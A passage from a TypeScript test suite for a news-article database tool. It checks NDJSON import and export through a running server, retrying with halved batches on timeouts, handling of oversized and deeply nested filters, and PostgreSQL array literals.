    expect(spellings).toEqual([]);
  });
});

/**
 * POSTs an NDJSON `body` to the server's /import.ndjson with node:http, on a connection of its own
 * (fetch may queue the request behind the other tests' kept-alive sockets); its status and text.
 */
function postImport(
  url: string,
  body: string,
  headers: Record<string, string>,
): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const request = http.request(
      `${url}/import.ndjson`,
      {
        method: 'POST',
        agent: false,
        headers: { ...headers, 'content-type': 'application/x-ndjson', 'content-length': Buffer.byteLength(body) },
      },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (text += chunk));
        response.on('end', () => resolve({ status: response.statusCode!, text }));
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

/** How many articles the server at `url` lists (its `articles` totalCount). */
async function articlesOn(url: string): Promise<number> {
  const answer = await fetch(`${url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query: '{ articles(first: 1) { totalCount } }' }),
  });
  return ((await answer.json()) as { data: { articles: { totalCount: number } } }).data.articles.totalCount;
}

// a folder of their own, whichever pass this is (a server holds only an embedded folder)
describe.runIf(embeddedPass)('import and export while a server holds the embedded folder', () => {
  it('go through that server (its token in the folder), with the same outcomes', async () => {
    const folder = migratedFolder(work, 'held');
    const server = await startServer({ PGLITE_DIR: folder, DATABASE_URL: undefined, SEED_DEMO_DATA: 'false' });
    try {
      const env = { PGLITE_DIR: folder, DATABASE_URL: '' };
      const file = path.join(work, 'held.ndjson');
      await writeImportFile(file, { count: 40, bad: 4, seed: 'held' });
      const first = await command('import', [file, '--as', 'held-importer'], env);
      expect(first.stderr).toMatch(/held by the server on port \d+; importing through it/);
      expect(first.stdout.trim().split('\n').at(-1)).toBe('created 36, updated 0, unchanged 0, rejected 4');
      expect(first.code).toBe(3);
      const again = await command('import', [file, '--as', 'held-importer', '--batch', '7'], env);
      expect(again.stderr).toContain('--batch does not apply there: the server files 200 records a batch');
      expect(again.stdout.trim().split('\n').at(-1)).toBe('created 0, updated 0, unchanged 36, rejected 4');
      const exported = await command('export', [], env);
      const records = exported.stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { url: string; title: string });
      expect(records).toHaveLength(36);
      expect(await articlesOn(server.url)).toBe(36);
      // a filter longer than a URL holds (18 KB) goes through the server as a body, and one the
      // server refuses is the command's usage error (exit 2) with the server's message
      const long = JSON.stringify({
        title: {
          in: [...records.map((r) => r.title), ...Array.from({ length: 60 }, (_, i) => `${'x'.repeat(300)}${i}`)],
        },
      });
      expect(long.length).toBeGreaterThan(16_000);
      const longRun = await command('export', ['--filter', long], env);
      expect(longRun.code, longRun.stderr).toBe(0);
      expect(longRun.stdout.trim().split('\n')).toHaveLength(36);
      const nested = await command('export', ['--filter', `${'{"NOT":'.repeat(3000)}{}${'}'.repeat(3000)}`], env);
      expect(nested.code).toBe(2);
      expect(nested.stderr).toMatch(/answered 400: .*BAD_USER_INPUT/);
      // its lock and token files removed under it (a clean-up of the folder): the server writes
      // them again, and the commands still go through it, never beside it
      const lockFile = path.join(folder, 'newsgraph.lock');
      fs.rmSync(lockFile);
      fs.rmSync(path.join(folder, 'newsgraph.token'));
      for (
        let i = 0;
        i < 100 && !(fs.existsSync(lockFile) && fs.readFileSync(lockFile, 'utf8').includes('"port"'));
        i++
      )
        await new Promise((resolve) => setTimeout(resolve, 100));
      const afterCleanUp = await command('export', [], env);
      expect(afterCleanUp.code, afterCleanUp.stderr).toBe(0);
      expect(afterCleanUp.stdout.trim().split('\n')).toHaveLength(36);
      const importedAgain = await command('import', [file, '--as', 'held-importer'], env);
      expect(importedAgain.stderr).toMatch(/importing through it/);
      expect(importedAgain.stdout.trim().split('\n').at(-1)).toBe('created 0, updated 0, unchanged 36, rejected 4');
    } finally {
      await server.stop();
    }
    // the folder is free again: the command opens it itself and finds what went through the server
    const byName = await command('export', ['--filter', '{"priority":{"gte":1}}'], {
      PGLITE_DIR: folder,
      DATABASE_URL: '',
    });
    expect(byName.stdout.trim().split('\n')).toHaveLength(36);
  }, 120_000);

  it('sends halves again when the server answers 503 REQUEST_TIMEOUT (nothing of them filed), down to one record', async () => {
    // 200 records a request take the embedded server longer than 400 ms; a few records do not
    const folder = migratedFolder(work, 'held-timeout');
    const server = await startServer({
      PGLITE_DIR: folder,
      DATABASE_URL: undefined,
      SEED_DEMO_DATA: 'false',
      REQUEST_TIMEOUT_MS: '400',
    });
    try {
      const env = { PGLITE_DIR: folder, DATABASE_URL: '' };
      const file = path.join(work, 'held-timeout.ndjson');
      await writeImportFile(file, { count: 300, bad: 0, seed: 'held-timeout' });
      const run = await command('import', [file], env);
      expect(run.stdout.trim().split('\n').at(-1)).toBe('created 300, updated 0, unchanged 0, rejected 0');
      expect(run.code).toBe(0);
      const imports = server
        .output()
        .split('\n')
        .filter((line) => line.includes('"path":"/import.ndjson"'))
        .map((line) => (JSON.parse(line) as { status: number }).status);
      expect(imports).toContain(503);
      expect(imports).toContain(200);
      expect(await articlesOn(server.url)).toBe(300);
    } finally {
      await server.stop();
    }
  }, 180_000);
});

describe('array literals of the bulk statements (db/arrays.ts)', () => {
  it('reach PostgreSQL as the same integers and instants, and refuse what is not an integer', async () => {
    const ints = [0, -1, 2_147_483_647, -2_147_483_648, 42];
    // instants go as milliseconds since the epoch (stories/detect.ts): exact to the millisecond
    const instants = [
      new Date('2025-05-05T01:02:03.456Z'),
      new Date('1969-12-31T23:59:59.999Z'),
      new Date('1900-02-28T12:00:00.001Z'),
      new Date('2999-12-31T23:59:59.999Z'),
    ];
    const [row] = await prisma.$queryRaw<{ ints: number[]; instants: Date[] }[]>`
      SELECT ${intArray(ints)}::int[] AS "ints",
             ARRAY(SELECT 'epoch'::timestamptz + n * interval '1 millisecond'
                   FROM unnest(${intArray(instants.map((at) => at.getTime()))}::bigint[]) WITH ORDINALITY AS u(n, i)
                   ORDER BY i) AS "instants"`;
    expect(row!.ints).toEqual(ints);
    expect(row!.instants.map((at) => at.toISOString())).toEqual(instants.map((at) => at.toISOString()));
    expect(intArray([])).toBe('{}');
    for (const bad of [1.5, Number.NaN, Number.POSITIVE_INFINITY, 2 ** 53]) {
      expect(() => intArray([1, bad])).toThrow(RangeError);
    }
  });
});
